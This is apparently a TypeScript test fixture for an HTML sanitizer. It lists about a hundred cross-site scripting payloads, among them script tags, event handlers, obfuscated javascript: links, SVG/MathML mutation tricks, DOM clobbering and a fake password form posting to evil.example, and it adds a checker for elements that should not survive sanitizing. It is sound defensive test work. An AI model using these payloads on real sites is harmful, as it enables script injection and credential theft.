import { FAMILIES } from './hostileFamilies.ts'

/*
 * Texts that try to run a script, to load or send something, or to change the page around them. Those that run a script report success by calling
 * `hit()`. `trespasses` returns what is left of a text although no harmless text may contain it.
 */

export const HOSTILE: readonly string[] = [
  // Scripts.
  '<script>hit()</script>',
  '<SCRIPT>hit()</SCRIPT>',
  '<script src="https://evil.example/a.js"></script>',
  '<script src="data:text/javascript,hit()"></script>',
  '<script type="module">hit()</script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<script\n>hit()</script\n>',
  '"><script>hit()</script>',
  '</textarea></title></style></noscript><script>hit()</script>',
  '<p>Hello<script>hit()</script></p>',
  '<script>hit()',
  // Event handlers.
  '<img src=x onerror=hit()>',
  '<img src=x onerror="hit()"//><p',
  '<img/src=x/onerror=hit()>',
  '<IMG SRC=x ONERROR=hit()>',
  '<img src=x:x onerror&#61;"hit()" onerror=hit()>',
  '<p onclick="hit()">Press</p>',
  '<strong onmouseover="hit()">Over</strong>',
  '<a href="https://example.com" onclick="hit()">Press</a>',
  '<a href="https://example.com" onfocus="hit()" autofocus tabindex=1>Focus</a>',
  '<b onpointerenter=hit() onanimationstart=hit() style="animation:x">Move</b>',
  '<ul ontoggle=hit()><li oncopy=hit()>Copy</li></ul>',
  '<details open ontoggle="hit()"><summary>Open</summary></details>',
  '<body onload="hit()">',
  '<video><source onerror="hit()"></video>',
  '<audio src=x onerror=hit()>',
  '<input autofocus onfocus=hit()>',
  '<select autofocus onfocus=hit()><option>1</option></select>',
  '<marquee onstart=hit()>Run</marquee>',
  // Addresses that run a script.
  '<a href="javascript:hit()">Press</a>',
  '<a href="JaVaScRiPt:hit()">Press</a>',
  '<a href="java\nscript:hit()">Press</a>',
  '<a href="java\tscript:hit()">Press</a>',
  '<a href=" \u0001javascript:hit()">Press</a>',
  '<a href="&#106;avascript:hit()">Press</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;hit()">Press</a>',
  '<a href="javascript&colon;hit()">Press</a>',
  '<a href="javascript://https://example.com/%0Ahit()">Press</a>',
  '<a href="vbscript:hit()">Press</a>',
  '<a href="data:text/html,<script>hit()</script>">Press</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">Press</a>',
  '<a href="blob:https://example.com/1">Press</a>',
  '<a href="file:///etc/passwd">Press</a>',
  '<a href="//evil.example">Press</a>',
  '<a href="/logout">Press</a>',
  '<a href="ht tp://example.com">Press</a>',
  '<a xlink:href="javascript:hit()">Press</a>',
  '<a href="https://example.com" target="_self" ping="https://evil.example" download>Press</a>',
  '<area href="javascript:hit()">',
  '<base href="javascript:hit()//">',
  '<button formaction="javascript:hit()">Press</button>',
  // SVG and MathML, and markup that changes when it is parsed twice.
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><a xlink:href="javascript:hit()"><text y=20>Press</text></a></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>',
  '<svg><set attributeName="onmouseover" to="hit()"></svg>',
  '<svg><foreignObject><p onclick=hit()>Press</p></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=hit() /></svg>#x"></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<math><mtext><table><mglyph><style><math href="javascript:hit()">Press</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>',
  '<svg><title><style><img src=x onerror=hit()></style></title></svg>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  '<svg><p><style><!--</style><img src=x onerror=hit()>--></style>',
  '<xmp><p title="</xmp><img src=x onerror=hit()>"></xmp>',
  '<plaintext><img src=x onerror=hit()>',
  '<noembed><img src=x onerror=hit()></noembed>',
  // Styles.
  '<style>body { display: none }</style>',
  '<style>@import "https://evil.example/a.css";</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">Over all</p>',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<p class="fui-Button" id="root" name="body" slot="x" is="x-y" part="z">Dressed up</p>',
  // Forms, frames, and elements that imitate or replace the page.
  '<form action="https://evil.example"><input name="password" type="password"><button>Sign In</button></form>',
  '<textarea name="draft">Yours</textarea>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">',
  '<frameset onload=hit()></frameset><frame src="javascript:hit()">',
  '<meta http-equiv="refresh" content="0;url=javascript:hit()">',
  '<template><script>hit()</script></template>',
  '<div><template shadowrootmode="open"><script>hit()</script></template></div>',
  '<img name="getElementById"><img id="cookie"><form id="documentElement"></form>',
  '<x-widget data-x="hit()" aria-label="x"></x-widget>',
  '<dialog open>Your session has ended</dialog>',
  '<div popover id="p">Over all</div>',
  '<img src="https://evil.example/pixel.gif">',
  '<portal src="https://evil.example"></portal>',
  // Nested.
  '<p><b><i><u><s><img src=x onerror=hit()></s></u></i></b></p>',
  '<ul><li><a href="https://example.com"><svg onload=hit()></svg></a></li></ul>',
  '<a href="https://example.com"><object><a href="javascript:hit()">Press</a></object></a>',
  '<p><object><p><object><ul><li><object><li onclick=hit()>Press</li></object></li></ul></object></p></object></p>',
  '<pre><code><script>hit()</script></code></pre>',
  '<<img src=x onerror=hit()>img src=x onerror=hit()>',
  '<!--><img src=x onerror=hit()>-->',
  '<![CDATA[<img src=x onerror=hit()>]]><img src=x onerror=hit()>',
  '<?xml-stylesheet href="javascript:hit()"?><img src=x onerror=hit()>',
  `${'<b>'.repeat(300)}<img src=x onerror=hit()>${'</b>'.repeat(300)}`,
  ...FAMILIES,
]

/**
 * Elements and attributes in a container that are not among the few harmless ones, and links that lead to anything other than the web or a mail
 * address. Uses nothing from outside the function, as it also runs in a page of the browser.
 */
export const trespasses = (root: ParentNode): string[] => {
  const tags = ['a', 'b', 'br', 'code', 'em', 'i', 'li', 'ol', 'p', 'pre', 's', 'strong', 'u', 'ul']
  const isSafeLink = (name: string, value: string): boolean =>
    (name === 'href' && /^(?:https?:\/\/|mailto:)\S+$/i.test(value)) ||
    (name === 'target' && value === '_blank') ||
    (name === 'rel' && value === 'noopener noreferrer')
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const tag = element.localName
    const isAllowed = tags.includes(tag) && element.namespaceURI === 'http://www.w3.org/1999/xhtml'
    const attributes = [...element.attributes]
      .filter(({ name, value }) => tag !== 'a' || !isSafeLink(name, value))
      .map(({ name, value }) => `<${tag} ${name}="${value}">`)
    return isAllowed ? attributes : [`<${tag}>`, ...attributes]
  })
}
